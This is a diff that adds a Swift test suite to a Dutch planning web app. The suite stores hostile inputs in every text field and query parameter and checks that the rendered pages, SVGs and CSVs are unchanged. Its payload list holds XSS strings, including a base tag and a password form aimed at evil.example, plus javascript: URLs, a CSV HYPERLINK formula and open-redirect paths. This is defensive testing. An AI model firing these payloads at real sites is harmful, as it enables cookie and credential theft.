@@ -1,0 +1,244 @@
+@testable import App
+import Core
+import Foundation
+import StipTestSupport
+import Storage
+import Testing
+import VaporTesting
+
+/// Everything a person types is hostile: every editable text field of every kind of record holds
+/// a payload, every page, form, SVG, CSV and JSON that can show it is rendered, and an
+/// independent HTML parser (Python's) must find the same element tree, attribute names and link
+/// schemes as with a harmless text of the same length in the same places. Query parameters that
+/// pages echo get the same treatment. CSV cells must not start a formula.
+@Suite(.serialized) struct HostilePayloadTests {
+    /// Both quotes, `<`, `>`, `&`, a closing `</title>`, a `<base>`, a `<form>`, a script, a
+    /// `javascript:` URL and entities, short enough for a title.
+    static let markup = #"x"'><base href="https://evil.example/"></title><form action=//evil.example><input name=password></form><script>alert(1)</script><a href="javascript:alert(1)">&amp;&lt;"#
+    static let payloads: [(name: String, text: String)] = [
+        ("markup", markup),
+        ("formula", #"=HYPERLINK("https://evil.example","klik")"#),
+        ("plus", "+31 43 123 4567"),
+        ("at", "@SUM(A1:A9)"),
+        ("javascript", "javascript:alert(document.cookie)"),
+        ("rtl", "\u{202E}fdp.exe\u{202C} \u{200F}שלום\u{200E} \u{2066}x\u{2069}"),
+        ("long", String(repeating: "W", count: 10_000)),
+    ]
+
+    @Test(arguments: payloads.map(\.name))
+    func noStoredPayloadChangesAPageSVGOrCSV(payload name: String) async throws {
+        let payload = try #require(Self.payloads.first { $0.name == name }).text
+        let hostile = try await Self.renderEverything(Self.register { payload + " " + $0 })
+        let harmless = try await Self.renderEverything(Self.register { Self.harmless(payload) + " " + $0 })
+        #expect(hostile.refused == harmless.refused, "a field refused the payload but not a harmless text of its length: \(hostile.refused.subtracting(harmless.refused))")
+        #expect(Set(hostile.bodies.keys) == Set(harmless.bodies.keys))
+        try Self.expectSameShapes(hostile.bodies, harmless.bodies)
+        for (path, body) in hostile.bodies where path.hasSuffix(".csv") { Self.expectNoFormula(body, in: path) }
+        // The payload did reach the pages: the test is not comparing two empty walks.
+        let shown = hostile.bodies.values.filter { $0.contains(Escaped.html(String(payload.prefix(40)))) || $0.contains(Escaped.attribute(String(payload.prefix(40)))) }
+        #expect(hostile.refused.count < 5 ? shown.count >= 30 : true, "the payload shows on only \(shown.count) answers")
+    }
+
+    @Test(arguments: payloads.map(\.name))
+    func noEchoedQueryParameterChangesAPage(payload name: String) async throws {
+        let payload = try #require(Self.payloads.first { $0.name == name }).text
+        // Only what means something in markup is replaced: the value stays as valid or invalid for
+        // the parameter as the payload is, so the page takes the same branch.
+        let harmless = String(payload.map { "<>\"'&".contains($0) ? "x" : $0 })
+        try await withStipAccounts { app, accounts in
+            let session = try await app.logIn(accounts[.administrator]!.email).cookies
+            var hostileBodies: [String: String] = [:], harmlessBodies: [String: String] = [:]
+            for (path, parameters) in Self.echoedParameters {
+                for parameter in parameters {
+                    for cookies in [nil, session] {
+                        let key = "\(path)?\(parameter)\(cookies == nil ? "" : "#session")"
+                        hostileBodies[key] = try await app.get("\(path)?\(parameter)=\(Escaped.queryValue(payload))", cookies: cookies).body.string
+                        harmlessBodies[key] = try await app.get("\(path)?\(parameter)=\(harmless)", cookies: cookies).body.string
+                    }
+                }
+            }
+            // Every GET route, every parameter Stip reads anywhere, all at once.
+            let all = Self.echoedParameters.flatMap(\.parameters)
+            for route in app.routes.all where route.method == .GET {
+                let path = RouteWalkTests.path(of: route)
+                hostileBodies[path] = try await app.get(path + "?" + all.map { "\($0)=\(Escaped.queryValue(payload))" }.joined(separator: "&"), cookies: session).body.string
+                harmlessBodies[path] = try await app.get(path + "?" + all.map { "\($0)=\(harmless)" }.joined(separator: "&"), cookies: session).body.string
+            }
+            try Self.expectSameShapes(hostileBodies, harmlessBodies)
+        }
+    }
+
+    @Test func theReportedCasesRenderAsText() async throws {
+        try await withStipAccounts { app, _ in
+            let login = try await app.get("/inloggen?next=" + Escaped.queryValue(#"/"><base href="https://evil.example/">"#)).body.string
+            #expect(!login.contains("<base"))
+            #expect(login.contains(#"value="/&quot;&gt;&lt;base"#) || !login.contains("evil.example"))
+            let comparison = try await app.get("/monitor/vergelijk?gebieden=" + Escaped.queryValue(#""><base href="https://evil.example/">"#)).body.string
+            #expect(!comparison.contains("<base"))
+            // `/%09/evil.example` becomes `//evil.example` in a browser: not a path on Stip.
+            #expect(LocalPath("/\t/evil.example") == nil && LocalPath("/\\evil.example") == nil && LocalPath("//evil.example") == nil)
+            #expect(LocalPath("/acties/x?y=1")?.path == "/acties/x?y=1")
+        }
+    }
+
+    /// The payload with every character that means something in markup, a URL or a spreadsheet
+    /// replaced by a letter: the same length and the same words, so text wraps and is cut alike.
+    static func harmless(_ payload: String) -> String {
+        String(payload.map { $0.isLetter || $0.isNumber || $0 == " " ? $0 : "x" })
+    }
+
+    // MARK: - The walk
+
+    /// Query parameters Stip reads, by a page that reads them.
+    static let echoedParameters: [(path: String, parameters: [String])] = [
+        ("/inloggen", ["next"]),
+        ("/monitor/vergelijk", ["gebieden", "niveau", "jaar"]),
+        ("/monitor", ["niveau", "jaar", "kaart", "regio", "legenda", "sorteer"]),
+        ("/monitor/focus", FocusQuery.Field.allCases.map(\.rawValue) + ["gewicht-economie"]),
+        ("/rekenschap", ["entity", "id", "account", "from", "until"]),
+        ("/middelen/inzet/invullen", ["jaar", "activiteit", "partij"]),
+        ("/middelen/begroting/realisatie", ["jaar", "post"]),
+        ("/doelen", ["opgeslagen", "verwijderd"]),
+    ]
+
+    struct Rendering {
+        var bodies: [String: String] = [:]
+        var refused: Set<String> = []
+    }
+
+    /// The plan with every editable text field of every record set to `text(id)`, plus a person
+    /// and a membership (the plan names nobody), written through the same editors as the forms.
+    static func register(_ text: (String) -> String) -> (Register, Set<String>) {
+        var register = SeedPlan.register
+        var refused: Set<String> = []
+        _ = PersonEditor.write([.name: "Persoon", .organisation: "provincie-limburg"], id: "persoon", into: &register)
+        _ = MembershipEditor.write([.person: "persoon", .team: "team-groene-long", .role: "member", .from: "2021-01-01"], id: "lidmaatschap", into: &register)
+        for kind in EntityKind.allCases {
+            let editor = kind.editor
+            let textFields = editor.fields(in: register).filter { field in
+                !field.onCreateOnly && (field.kind == .text || field.kind == .longText || field.kind == .lines)
+            }
+            for id in ids(of: kind, in: register) {
+                guard var values = editor.values(of: id, in: register) else { continue }
+                for field in textFields { values[field.name] = text(id) }
+                if case let .failure(refusal) = editor.write(values, id: id, into: &register) {
+                    refused.formUnion(refusal.problems.keys.map { "\(kind.rawValue).\($0.rawValue)" })
+                }
+            }
+        }
+        return (register, refused)
+    }
+
+    static func ids(of kind: EntityKind, in register: Register) -> [String] {
+        switch kind {
+        case .challenges: register.challenges.map(\.id)
+        case .ambitions: register.ambitions.map(\.id)
+        case .targets: register.ambitions.flatMap(\.targets).map(\.id)
+        case .actionLines: register.actionLines.map(\.id)
+        case .actions: register.actions.map(\.id)
+        case .programmes: register.programmes.map(\.id)
+        case .organisations: register.organisations.map(\.id)
+        case .dependencies: register.dependencies.map(\.id)
+        case .people: register.people.map(\.id)
+        case .bodies: register.bodies.map(\.id)
+        case .teams: register.teams.map(\.id)
+        case .memberships: register.memberships.map(\.id)
+        }
+    }
+
+    /// Every GET route as the beheerder (who sees every form), the public pages as a visitor,
+    /// the API with a token; each answer kept under its path.
+    static func renderEverything(_ populated: (Register, Set<String>)) async throws -> Rendering {
+        var rendering = Rendering(refused: populated.1)
+        try await withStipAndStore(seeded: false) { app, store in
+            try await store.load(populated.0, replacing: false)
+            let accounts = AccountStore(database: try #require(app.storage[TestDatabaseKey.self]))
+            let administrator = try await AccountCreation.create(
+                email: "beheer@zuid-limburg.nl", role: .administrator, teams: [], password: testPassword, in: accounts, cost: 4)
+            let session = try await app.logIn(administrator.email).cookies
+            let token = Secret.token()
+            _ = try await accounts.createAPIToken(accountID: administrator.id, name: "walk", tokenHash: Secret.fingerprint(token))
+            let ids = RouteWalkTests.ids.merging(["mensen": "persoon", "people": "persoon", "lidmaatschappen": "lidmaatschap", "memberships": "lidmaatschap"]) { $1 }
+            for route in app.routes.all where route.method == .GET {
+                let path = RouteWalkTests.path(of: route, ids: ids)
+                let isAPI = path.hasPrefix("/api/")
+                let answer = isAPI ? try await app.get(path, bearer: token) : try await app.get(path, cookies: session)
+                rendering.bodies[path] = answer.body.string
+                if !isAPI { rendering.bodies[path + "#anonymous"] = try await app.get(path).body.string }
+                if isAPI, answer.headers.contentType?.subType == "json" {
+                    #expect((try? JSONSerialization.jsonObject(with: Data(answer.body.string.utf8))) != nil, "\(path) is not JSON")
+                }
+            }
+        }
+        return rendering
+    }
+
+    static func expectSameShapes(_ hostile: [String: String], _ harmless: [String: String], sourceLocation: SourceLocation = #_sourceLocation) throws {
+        let hostileShapes = try shapes(hostile), harmlessShapes = try shapes(harmless)
+        for (path, shape) in hostileShapes.sorted(by: { $0.key < $1.key }) {
+            for scheme in ["javascript:", "data:", "vbscript:"] where shape.contains("=\(scheme)") {
+                Issue.record("\(path): a link with \(scheme)", sourceLocation: sourceLocation)
+            }
+            guard let expected = harmlessShapes[path] else { continue }
+            if shape != expected {
+                let difference = zip(shape.split(separator: "\n"), expected.split(separator: "\n")).first { $0 != $1 }
+                Issue.record("\(path): the payload changed the element tree: \(difference.map { "\($0.0) instead of \($0.1)" } ?? "different length")",
+                             sourceLocation: sourceLocation)
+            }
+        }
+    }
+
+    /// The element trees of HTML and SVG answers, by Python's HTML parser.
+    static func shapes(_ bodies: [String: String]) throws -> [String: String] {
+        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("stip-shapes-\(UUID().uuidString)")
+        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(at: folder) }
+        var names: [String: String] = [:]
+        for (index, (path, body)) in bodies.enumerated() where body.contains("<") {
+            let name = "\(index).html"
+            names[name] = path
+            try body.write(to: folder.appendingPathComponent(name), atomically: false, encoding: .utf8)
+        }
+        let script = PlotAttributeShadowTests.root.appendingPathComponent("scripts/html_shape.py")
+        let process = Process()
+        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
+        process.arguments = ["python3", script.path, folder.path]
+        let output = Pipe()
+        process.standardOutput = output
+        try process.run()
+        let data = output.fileHandleForReading.readDataToEndOfFile()
+        process.waitUntilExit()
+        #expect(process.terminationStatus == 0)
+        let byFile = try JSONDecoder().decode([String: String].self, from: data)
+        return Dictionary(uniqueKeysWithValues: byFile.compactMap { file, shape in names[file].map { ($0, shape) } })
+    }
+
+    /// No cell of a CSV answer starts with what a spreadsheet runs as a formula.
+    static func expectNoFormula(_ csv: String, in path: String) {
+        for cell in cells(csv) {
+            guard let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { continue }
+            let isNumber = Double(cell.replacingOccurrences(of: ",", with: ".")) != nil
+            #expect(isNumber, "\(path): the cell \(cell.prefix(60)) starts a formula")
+        }
+    }
+
+    /// The cells of an RFC 4180 file, unquoted.
+    static func cells(_ csv: String) -> [String] {
+        var cells: [String] = [], cell = "", quoted = false, afterQuote = false
+        for character in csv {
+            if quoted {
+                if character == "\"" { quoted = false; afterQuote = true } else { cell.append(character) }
+            } else if character == "\"" {
+                if afterQuote { cell.append("\"") }
+                quoted = true
+                afterQuote = false
+            } else if character == "," || character == "\n" || character == "\r\n" || character == "\r" {
+                cells.append(cell); cell = ""; afterQuote = false
+            } else {
+                cell.append(character); afterQuote = false
+            }
+        }
+        cells.append(cell)
+        return cells
+    }
+}
